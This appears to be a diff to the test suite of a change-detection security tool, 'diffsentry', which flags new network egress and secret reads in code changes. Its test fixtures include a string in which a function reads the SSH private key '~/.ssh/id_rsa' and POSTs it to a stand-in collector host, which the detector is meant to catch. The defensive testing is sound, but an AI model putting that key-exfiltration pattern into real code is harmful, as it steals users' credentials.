@@ -127,7 +127,7 @@ def test_delta_of_a_change_that_adds_egress_in_every_format(repo, tmp_path_facto
     assert "POST to collector.example.xyz in metrics.py:_send (line 9)" in markdown
 
 
-def test_a_pure_refactor_adds_no_capability(repo):
+def test_a_pure_refactor_adds_no_capability(repo, tmp_path_factory):
     (repo / "metrics.py").write_text(HAS_EGRESS)
     git(repo, "add", ".")
     git(repo, "commit", "-qm", "egress exists before")
@@ -136,6 +136,10 @@ def test_a_pure_refactor_adds_no_capability(repo):
     document = json.loads(diff_run(repo, "-f", "json").stdout)
     assert document["capabilities"] == []
     assert "New capabilities" not in diff_run(repo).output
+    assert json.loads(diff_run(repo, "-f", "sarif").stdout)["runs"][0]["properties"]["capabilities"] == []
+    summary = tmp_path_factory.mktemp("gh") / "summary.md"
+    diff_run(repo, "-f", "github", env={"GITHUB_STEP_SUMMARY": str(summary)})
+    assert summary.read_text().startswith("## diffsentry") and "New capabilities" not in summary.read_text()
 
 
 def test_scan_mode_has_no_delta(repo):
@@ -164,6 +168,60 @@ def test_delta_compares_kinds_and_details_not_lines():
     assert delta.compute(before, after) == ()
     added = delta.compute({"a.py": None}, {"a.py": HAS_EGRESS})
     assert [(c.kind, c.function) for c in added] == [("network-egress", "ship")]
+
+
+HELPER = '''import requests
+
+HOST = "https://collector.example.xyz/v1"
+
+
+def ship(data):
+    requests.post(HOST, data=data, timeout=3)
+
+
+def backup():
+    return "nothing to do"
+'''
+# The change adds only a call to the existing network helper, with SSH keys as its argument.
+CALLS_HELPER = HELPER.replace('    return "nothing to do"', "    ship(open('~/.ssh/id_rsa').read())")
+
+
+def test_a_new_call_to_an_existing_network_helper_is_new_egress_of_the_caller():
+    added = delta.compute({"app.py": HELPER}, {"app.py": CALLS_HELPER})
+    assert [(c.kind, c.function, c.line, c.detail, c.via) for c in added] == [
+        ("network-egress", "backup", 11, "POST to collector.example.xyz", "ship"),
+        ("secret-read", "backup", 11, "reads SSH keys", ""),
+    ]
+    assert added[0].sentence == "POST to collector.example.xyz (through `ship`) in app.py:backup (line 11)"
+    assert added[0].as_dict()["via"] == "ship"
+    # a new function counts too when the power comes from a function that existed before
+    nightly = HELPER + "\n\ndef nightly():\n    ship(b'x')\n"
+    assert [(c.function, c.via) for c in delta.compute({"app.py": HELPER}, {"app.py": nightly})] == [("nightly", "ship")]
+
+
+def test_a_new_call_to_an_existing_helper_in_a_diff_fires_a_combination_and_lists_the_delta(repo):
+    (repo / "app.py").write_text(HELPER)
+    git(repo, "add", ".")
+    git(repo, "commit", "-qm", "helper exists")
+    (repo / "app.py").write_text(CALLS_HELPER)
+    document = json.loads(diff_run(repo, "-f", "json").stdout)
+    assert {(c["kind"], c["function"], c.get("via")) for c in document["capabilities"]} == {
+        ("network-egress", "backup", "ship"), ("secret-read", "backup", None)}
+    assert [(f["rule_id"], f["start_line"]) for f in document["findings"] if f["rule_id"] == "DS125"] == [
+        ("DS125", 11)]
+
+
+@pytest.mark.parametrize("after", [
+    HELPER.replace("def ship(", "def send(").replace("ship(", "send("),  # renamed
+    HELPER.replace("    requests.post(HOST, data=data, timeout=3)", "    _post(data)\n\n\ndef _post(body):\n"
+                   "    requests.post(HOST, data=body, timeout=3)"),  # extracted into a new helper
+    HELPER.replace("    return \"nothing to do\"", "    requests.post(HOST, data=b'', timeout=3)").replace(
+        "def ship(data):\n    requests.post(HOST, data=data, timeout=3)", "def ship(data):\n    backup()"),  # moved
+])
+def test_moving_code_between_functions_with_the_same_reachable_powers_adds_nothing(after):
+    before = HELPER.replace('    return "nothing to do"', "    ship(b'')")
+    after = after.replace('    return "nothing to do"', "    ship(b'')") if "nothing" in after else after
+    assert delta.compute({"app.py": before}, {"app.py": after}) == ()
 
 
 def _index(files: dict[str, str]) -> graph.Index:
